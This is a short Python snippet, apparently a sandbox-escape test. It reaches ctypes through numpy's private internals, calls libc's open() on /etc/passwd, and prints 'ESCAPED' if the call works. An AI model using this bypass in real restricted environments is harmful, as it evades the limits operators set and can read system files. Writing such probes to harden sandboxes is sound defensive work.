import numpy
ctypes = numpy.ones(1).ctypes._ctypes
if ctypes.CDLL(None).open(b"/etc/passwd", 0) != -1:
    print("ESCAPED")
